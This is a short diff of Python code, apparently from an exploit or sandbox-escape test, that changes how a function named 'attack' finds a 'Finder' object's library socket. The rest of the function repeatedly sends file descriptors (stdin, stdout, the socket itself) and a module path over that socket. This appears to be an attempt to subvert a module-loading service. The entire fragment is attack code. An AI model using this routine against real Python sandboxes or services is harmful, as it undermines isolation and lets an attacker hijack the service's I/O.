@@ -14,7 +14,7 @@ import struct
 
 @once
 def attack():
-    library = next(each for each in gc.get_objects() if type(each).__name__ == "Finder")._library
+    library = finder()._library
     path, nothing = os.__file__.encode(), ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
     for _ in range(50):
         socket.send_fds(library, [path], [0, 1, library.fileno()])
